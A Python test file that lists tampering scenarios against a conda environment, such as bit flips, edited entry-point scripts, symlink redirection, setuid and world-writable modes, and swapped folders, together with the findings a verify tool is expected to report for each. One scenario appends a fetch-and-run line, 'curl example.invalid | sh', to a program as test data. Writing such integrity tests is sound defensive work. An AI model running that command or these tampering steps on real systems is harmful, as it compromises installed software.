"""What may have been done to an environment, and what verify has to say of each: the table of tamper_scenario.py.

A row is a function over a restored World; `strong` are the faults, as (code, path or package), with all archives at hand; `weak` those without any.
Either must be all the faults there are. The exit codes follow: with a fault 1; without one, an environment without archives is 2, or 0 with --allow-weak.
A weak answer of BLIND is what docs/verify.md admits: who edits a file and its record alike is not found without the archive.
"""
import hashlib
import os
import py_compile
import shutil
import stat

from tamper_support import BINARY_PLACEHOLDER, SHORT, SITE, TAG, flip_bit

TABLE = []
BLIND = frozenset()
STDLIB = f"lib/python{SHORT}"
GIANT = 200 << 30


def tampering(what, strong, weak="the same"):
    def add(act):
        TABLE.append((what, act, set(strong), set(strong) if weak == "the same" else set(weak)))
        return act
    return add


# Bytes.

@tampering("one bit of a shared object is flipped", [("file-differs", "lib/libplain.so.1")])
def _(world):
    flip_bit(world.prefix / "lib/libplain.so.1", 700)


@tampering("a shared object is edited, and conda-meta alike", [("file-differs", "lib/libplain.so.1")], BLIND)
def _(world):
    flip_bit(world.prefix / "lib/libplain.so.1")
    world.confess("plain", "lib/libplain.so.1")


@tampering("bytes are appended to a program", [("file-differs", "bin/plain")])
def _(world):
    with open(world.prefix / "bin/plain", "a") as file:
        file.write("curl example.invalid | sh\n")


@tampering("a data file is truncated", [("file-differs", "share/plain/weights.bin")])
def _(world):
    os.truncate(world.prefix / "share/plain/weights.bin", 5000)


@tampering("a data file is emptied", [("file-differs", "share/plain/weights.bin")])
def _(world):
    os.truncate(world.prefix / "share/plain/weights.bin", 0)


def grown(what, path):
    @tampering(f"{what} is grown to 200 GB, all of them holes", [("file-differs", path)])
    def _(world):
        os.truncate(world.prefix / path, GIANT)


grown("a data file", "share/plain/weights.bin")
grown("a text with a placeholder", "share/hello/settings.ini")
grown("a library with a placeholder", "lib/libhello.so.2.0")
grown("the script of an entry point", "bin/toytool")


@tampering("a file is changed, and has its old time and size", [("file-differs", "share/plain/weights.bin")])
def _(world):
    path = world.prefix / "share/plain/weights.bin"
    before = path.stat()
    flip_bit(path)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


@tampering("a text with a placeholder is edited", [("file-differs", "share/hello/settings.ini")])
def _(world):
    path = world.prefix / "share/hello/settings.ini"
    path.write_text(path.read_text().replace("/share\n", "/tmp\n"))


@tampering("a text with a placeholder is edited, and conda-meta alike", [("file-differs", "share/hello/settings.ini")], BLIND)
def _(world):
    path = world.prefix / "share/hello/settings.ini"
    path.write_text(path.read_text().replace("/share\n", "/tmp\n"))
    world.confess("hello", "share/hello/settings.ini")


@tampering("a text with a placeholder has another place in it", [("prefix-moved", "bin/hello")], [("file-differs", "bin/hello")])
def _(world):
    path = world.prefix / "bin/hello"
    path.write_text(path.read_text().replace(str(world.prefix), "/somewhere/else"))


@tampering("a placeholder was never replaced in a binary", [("file-differs", "lib/libhello.so.2.0")])
def _(world):
    path = world.prefix / "lib/libhello.so.2.0"
    gap = len(BINARY_PLACEHOLDER) - len(str(world.prefix))
    path.write_bytes(path.read_bytes().replace(str(world.prefix).encode() + bytes(gap), BINARY_PLACEHOLDER.encode(), 1))


@tampering("something is written into the padding behind a replaced prefix", [("file-differs", "lib/libhello.so.2.0")])
def _(world):
    path = world.prefix / "lib/libhello.so.2.0"
    data = path.read_bytes()
    at = data.index(str(world.prefix).encode() + bytes(9)) + len(str(world.prefix)) + 2
    path.write_bytes(data[:at] + b"evil" + data[at + 4:])


@tampering("the placeholder in conda-meta is another, and the file was edited to fit", [("file-differs", "share/hello/settings.ini")], BLIND)
def _(world):
    path = world.prefix / "share/hello/settings.ini"
    path.write_text(path.read_text() + "root = /tmp\n")
    world.confess("hello", "share/hello/settings.ini")

    def edit(data):
        for row in data["paths_data"]["paths"]:
            if row["_path"] == "share/hello/settings.ini":
                row["prefix_placeholder"] = "/tmp"
    world.edit_meta("hello", edit)


@tampering("the script of an entry point is edited", [("file-differs", "bin/toytool")], [("file-differs", "bin/toytool")])
def _(world):
    path = world.prefix / "bin/toytool"
    path.write_text(path.read_text().replace("import sys\n", "import sys, antigravity\n", 1))


@tampering("the script of an entry point is edited, and conda-meta alike", [("file-differs", "bin/toytool")], BLIND)
def _(world):
    path = world.prefix / "bin/toytool"
    path.write_text(path.read_text().replace("import sys\n", "import sys, antigravity\n", 1))

    def edit(data):
        for row in data["paths_data"]["paths"]:
            if row["_path"] == "bin/toytool":
                row["path_type"] = "hardlink"
                row["sha256"] = row["sha256_in_prefix"] = hashlib.sha256(path.read_bytes()).hexdigest()
    world.edit_meta("toytool", edit)


# What stands there.

@tampering("a file is removed", [("file-missing", "share/plain/readme.txt")])
def _(world):
    (world.prefix / "share/plain/readme.txt").unlink()


@tampering("a file is removed, and its name from conda-meta", [("file-missing", "share/plain/readme.txt")], BLIND)
def _(world):
    (world.prefix / "share/plain/readme.txt").unlink()
    forget(world, "plain", "share/plain/readme.txt")


@tampering("a module is edited, and its name taken out of conda-meta", [("file-differs", f"{SITE}/toytool/cli.py")], [("stranger-module", f"{SITE}/toytool/cli.py")])
def _(world):
    (world.prefix / SITE / "toytool/cli.py").write_text("import os\n")
    forget(world, "toytool", f"{SITE}/toytool/cli.py")


def forget(world, name, path):
    def edit(data):
        data["files"].remove(path)
        data["paths_data"]["paths"] = [row for row in data["paths_data"]["paths"] if row["_path"] != path]
    world.edit_meta(name, edit)


@tampering("a symlink points to another file", [("link-differs", "lib/libplain.so")], BLIND)
def _(world):
    relink(world.prefix / "lib/libplain.so", "plain/plugin.so")


@tampering("a symlink points out of the prefix", [("link-differs", "lib/libhello.so")], BLIND)
def _(world):
    relink(world.prefix / "lib/libhello.so", world.home / "libhello.so")


@tampering("a symlink is now a copy of its target", [("file-type-differs", "lib/libplain.so")])
def _(world):
    path = world.prefix / "lib/libplain.so"
    path.unlink()
    shutil.copy(world.prefix / "lib/libplain.so.1", path)


@tampering("a file is now a symlink to an equal one elsewhere", [("file-type-differs", "share/plain/weights.bin")])
def _(world):
    path = world.prefix / "share/plain/weights.bin"
    shutil.move(path, world.home / "weights.bin")
    path.symlink_to(world.home / "weights.bin")


@tampering("a file is now a folder", [("file-type-differs", "share/plain/readme.txt")])
def _(world):
    path = world.prefix / "share/plain/readme.txt"
    path.unlink()
    path.mkdir()


@tampering("a file is now a pipe", [("file-type-differs", "share/plain/readme.txt")])
def _(world):
    path = world.prefix / "share/plain/readme.txt"
    path.unlink()
    os.mkfifo(path)


@tampering("a symlink of a library goes in a circle", [("link-differs", "lib/libplain.so")], BLIND)
def _(world):
    relink(world.prefix / "lib/libplain.so", "libplain.so")


@tampering("a folder of a package is now a symlink to a copy outside", [("file-missing", "share/plain/readme.txt"), ("file-missing", "share/plain/weights.bin")])
def _(world):
    shutil.move(world.prefix / "share/plain", world.home / "plain")
    (world.prefix / "share/plain").symlink_to(world.home / "plain")


def relink(path, target):
    path.unlink()
    path.symlink_to(target)


# Modes.

@tampering("a program can no longer be executed", [("file-mode-differs", "bin/plain")], BLIND)
def _(world):
    (world.prefix / "bin/plain").chmod(0o644)


@tampering("a data file can be executed", [("file-mode-differs", "share/plain/weights.bin")], BLIND)
def _(world):
    (world.prefix / "share/plain/weights.bin").chmod(0o755)


@tampering("everybody may write to a library", [("file-mode-differs", "lib/libplain.so.1")], BLIND)
def _(world):
    (world.prefix / "lib/libplain.so.1").chmod(0o777)


@tampering("a program runs with its owner's rights", [("file-mode-differs", "bin/plain")])
def _(world):
    (world.prefix / "bin/plain").chmod(0o4755)


@tampering("everybody may write to folders", [("writable-by-all", "bin")])
def _(world):
    (world.prefix / "bin").chmod(0o777)
    (world.prefix / SITE).chmod(0o757)


@tampering("everybody may write to the prefix itself", [("writable-by-all", ".")])
def _(world):
    world.prefix.chmod(0o777)


@tampering("everybody may write to records and compiled files", [("writable-by-all", "conda-meta/history")])
def _(world):
    (world.prefix / "conda-meta/history").chmod(0o666)
    cached = world.prefix / STDLIB / f"__pycache__/os.{TAG}.pyc"
    py_compile.compile(str(world.prefix / STDLIB / "os.py"), str(cached))
    cached.chmod(0o666)


@tampering("files that no package owns, and compiled ones, run with their owner's rights",
           [("file-privileged", "share/su"), ("file-privileged", f"{STDLIB}/__pycache__/os.{TAG}.pyc")])
def _(world):
    (world.prefix / "share/su").write_text("")
    (world.prefix / "share/su").chmod(0o4755)
    cached = world.prefix / STDLIB / f"__pycache__/os.{TAG}.pyc"
    py_compile.compile(str(world.prefix / STDLIB / "os.py"), str(cached))
    cached.chmod(0o6755)


# Two in each other's place.

@tampering("one file is now a hard link to another", [("file-differs", "share/plain/readme.txt")])
def _(world):
    (world.prefix / "share/plain/readme.txt").unlink()
    os.link(world.prefix / "share/plain/weights.bin", world.prefix / "share/plain/readme.txt")


@tampering("two files have changed places", [("file-differs", "share/plain/readme.txt"), ("file-differs", "share/plain/weights.bin")])
def _(world):
    swap(world.prefix / "share/plain/readme.txt", world.prefix / "share/plain/weights.bin")


@tampering("two folders have changed places", [
    ("file-differs", f"{SITE}/pip/__init__.py"), ("file-differs", f"{SITE}/toytool/__init__.py"), ("file-missing", f"{SITE}/toytool/cli.py"),
    ("file-missing", f"{SITE}/toytool/sub/__init__.py"), ("stranger-module", f"{SITE}/pip/cli.py"), ("stranger-module", f"{SITE}/pip/sub")])
def _(world):
    swap(world.prefix / SITE / "pip", world.prefix / SITE / "toytool")


def swap(left, right):
    left.rename(left.parent / "x")
    right.rename(left)
    (left.parent / "x").rename(right)


@tampering("a folder has its name in capitals", [("file-missing", "share/plain/readme.txt"), ("file-missing", "share/plain/weights.bin")])
def _(world):
    (world.prefix / "share/plain").rename(world.prefix / "share/Plain")


@tampering("a file is now a socket", [("file-type-differs", "share/plain/readme.txt")])
def _(world):
    path = world.prefix / "share/plain/readme.txt"
    path.unlink()
    os.mknod(path, 0o644 | stat.S_IFSOCK)


# Scripts.

def script(what, edit, weak="the same"):
    @tampering(f"the script of an entry point has {what}", [("file-differs", "bin/toytool")], weak)
    def _(world):
        path = world.prefix / "bin/toytool"
        path.write_bytes(edit(path.read_bytes()))


script("another python", lambda data: b"#!/usr/bin/python3\n" + data.split(b"\n", 1)[1])
script("an option for python", lambda data: data.replace(b"\n", b" -i\n", 1))
script("other line ends", lambda data: data.replace(b"\n", b"\r\n"))
script("one line end more", lambda data: data + b"\n")
script("more lines than are read", lambda data: data + b"#\n" * (1 << 20))


@tampering("the first line of a script with a placeholder asks PATH for python", [("file-differs", "bin/hello")])
def _(world):
    path = world.prefix / "bin/hello"
    path.write_bytes(b"#!/usr/bin/env python\n" + path.read_bytes().split(b"\n", 1)[1])


@tampering("one of two placeholders in a text has another place in it", [("file-differs", "share/hello/settings.ini")])
def _(world):
    path = world.prefix / "share/hello/settings.ini"
    path.write_text(path.read_text().replace(str(world.prefix), "/somewhere/else", 1))


def grown_to(size):
    @tampering(f"a file is grown to {size} bytes", [("file-differs", "share/plain/weights.bin")])
    def _(world):
        os.truncate(world.prefix / "share/plain/weights.bin", size)


grown_to((1 << 31) + 16384)
grown_to((1 << 32) + 16384)
